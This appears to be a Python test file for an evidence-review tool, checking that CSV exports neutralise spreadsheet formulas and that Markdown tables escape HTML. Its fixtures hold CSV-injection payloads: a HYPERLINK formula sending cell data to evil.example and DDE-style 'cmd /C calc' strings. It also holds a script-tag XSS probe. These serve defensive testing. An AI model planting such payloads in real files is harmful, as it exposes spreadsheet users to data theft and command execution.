"""Spreadsheet formula neutralisation in every CSV evidencekit writes (issue 12, item 2),
and Markdown/HTML escaping of user text in Markdown tables (item 8)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from records_review import make_review, pipe

from evidencekit.core import deduplication as dd
from evidencekit.core import records as R
from evidencekit.core.cli import cli as main
from evidencekit.core.review import open_review
from evidencekit.core.safe_cells import (
    FORMULA_START,
    csv_text,
    markdown_cell,
    neutralise,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for full text")',
    "+cmd' /C calc'!A0",
    "-2+3+cmd' /C calc'!A0",
    "@SUM(1+1)*cmd' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_each_dangerous_start_is_neutralised() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for safe in (
        "Peer support",
        "",
        "'=already quoted",
        " =leading space",
        "-3",
        "+1.5",
        "-2e3",
        "-.5",
    ):
        assert neutralise(safe) == safe
    assert neutralise(None) is None and neutralise(7) == 7


# A lone carriage return inside a quoted cell does not survive Python's csv reader (not
# the writer's fault); test_each_dangerous_start_is_neutralised covers a leading one.
@given(
    st.lists(st.text(st.characters(exclude_characters="\r"), max_size=20), min_size=1, max_size=6)
)
def test_no_cell_starts_a_formula_and_raw_is_exact(cells: list[str]) -> None:
    header = [f"c{i}" for i in range(len(cells))]
    safe = list(csv.reader(io.StringIO(csv_text(header, [cells]), newline="")))[1]
    for original, written in zip(cells, safe, strict=True):
        assert written in (original, "'" + original)
        if written and written[0] in FORMULA_START:
            assert neutralise(written) == written  # only a plain number starts so
    raw = list(csv.reader(io.StringIO(csv_text(header, [cells], raw=True), newline="")))[1]
    assert raw == cells


def _hostile_review(tmp_path: Path) -> tuple[Path, Path]:
    folder = make_review(tmp_path / "review")
    lines = [f"{title}|2019|10.1/{i}|Smith, J" for i, title in enumerate(HOSTILE[:4])]
    lines.append(f"{HOSTILE[0]}|2019|10.1/other|Smith, J")  # same title: an uncertain pair
    return folder, pipe(folder, "hostile.txt", lines)


def test_records_export_and_dedupe_review_csv_neutralise(tmp_path: Path) -> None:
    folder, path = _hostile_review(tmp_path)
    review = open_review(folder)
    R.import_files(review, [path], source="Evil")
    for all_records in (False, True):
        rows = list(
            csv.DictReader(io.StringIO(R.export_records(review, "csv", all_records=all_records)))
        )
        assert sorted(r["title"] for r in rows) == sorted(
            "'" + t for t in [*HOSTILE[:4], HOSTILE[0]]
        )
        raw = list(
            csv.DictReader(
                io.StringIO(R.export_records(review, "csv", all_records=all_records, raw=True))
            )
        )
        assert sorted(r["title"] for r in raw) == sorted([*HOSTILE[:4], HOSTILE[0]])
    R.run_dedupe(review)
    pairs = dd.review_pairs(review)
    assert pairs, "the two equal titles with other DOIs make an uncertain pair"
    (row,) = csv.DictReader(io.StringIO(dd.review_csv(pairs)))
    assert row["title_a"] == row["title_b"] == "'" + HOSTILE[0]
    (raw_row,) = csv.DictReader(io.StringIO(dd.review_csv(pairs, raw=True)))
    assert raw_row["title_a"] == HOSTILE[0]


def test_cli_raw_flags(tmp_path: Path) -> None:
    folder, path = _hostile_review(tmp_path)
    runner = CliRunner()
    imported = runner.invoke(
        main, ["import", str(path), "--source", "Evil", "--review", str(folder)]
    )
    assert imported.exit_code == 0, imported.output
    safe = runner.invoke(main, ["records", "export", "--review", str(folder)])
    raw = runner.invoke(main, ["records", "export", "--raw", "--review", str(folder)])
    assert safe.exit_code == raw.exit_code == 0
    assert "'=HYPERLINK" in safe.stdout and "\n=HYPERLINK" not in safe.stdout
    assert '"=HYPERLINK' in raw.stdout or "\n=HYPERLINK" in raw.stdout
    assert runner.invoke(main, ["dedupe", "--review", str(folder)]).exit_code == 0
    review_csv = runner.invoke(main, ["dedupe", "review", "--csv", "--review", str(folder)])
    assert review_csv.exit_code == 0 and "'=HYPERLINK" in review_csv.stdout
    for command in (
        ["records", "export"],
        ["dedupe", "review"],
        ["appraise", "score"],
        ["measure", "score"],
        ["extract", "sample"],
    ):
        helped = runner.invoke(main, [*command, "--help"])
        assert "--raw" in helped.output, command


APPRAISAL = Path(__file__).resolve().parents[1] / "data" / "appraisal"


def test_quality_table_neutralises_a_reviewer_name(tmp_path: Path) -> None:
    from evidencekit.core.appraisal import load_context, score_files, table_csv

    root = tmp_path / "review"
    root.mkdir()
    shutil.copy(APPRAISAL / "studies.csv", root / "studies.csv")
    (root / "review.yaml").write_text(
        "kind: review\nid: t\nversion: '1'\ntitle: T\nappraisal:\n  studies: studies.csv\n"
        "  checklists:\n    qualitative: casp-qualitative\n"
        "    randomised controlled trial: [casp-rct, rob2-parallel]\n"
        "    cohort: casp-cohort\n    case-control: [casp-case-control, rob2-parallel]\n",
        "utf-8",
    )
    answers = (APPRAISAL / "answers-valid.csv").read_text("utf-8").replace(",ni,", ",@ni,")
    (root / "answers.csv").write_text(answers, "utf-8")
    report = score_files(root / "answers.csv", load_context(review_file=root))
    rows = list(csv.DictReader(io.StringIO(table_csv(report))))
    assert rows and all(r["reviewers"].startswith("'@") for r in rows if "ni" in r["reviewers"])
    raw = list(csv.DictReader(io.StringIO(table_csv(report, raw=True))))
    assert any(r["reviewers"].startswith("@ni") for r in raw)


def test_markdown_cell_escapes_html_and_markdown() -> None:
    assert markdown_cell("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_cell("a|b *c* [x](y)\nz") == "a\\|b \\*c\\* \\[x\\](y) z"


def test_measure_table2_markdown_escapes_unit_names() -> None:
    from evidencekit.core.instruments.models import build_instrument
    from evidencekit.core.measure import build_ratings, render_table2, table2

    measure = build_instrument(
        {
            "kind": "measure",
            "id": "mini",
            "version": "1",
            "title": "Mini",
            "source": {"citation": "test", "licence": "CC0"},
            "items": [{"id": "a", "number": 1, "text": "Culture"}],
            "scale": {"min": 0, "max": 3, "anchors": {0: "none", 3: "all"}},
            "scoring": {
                "method": "sum",
                "total_min": 0,
                "total_max": 3,
                "missing": {"max_missing_items": 0, "rule": "prorate"},
            },
        }
    )
    unit = "<script>alert(1)</script>"
    table = table2(
        build_ratings(measure, [(unit, "x", 1, 2), ("=1+1", "x", 1, 1)]).scores, None, None
    )
    md = render_table2(table, "markdown")
    assert "<script>" not in md and "&lt;script&gt;" in md
    rows = list(csv.reader(io.StringIO(render_table2(table, "csv"))))
    assert "'=1+1" in rows[0] and unit in rows[0]
    assert "=1+1" in next(csv.reader(io.StringIO(render_table2(table, "csv", raw=True))))
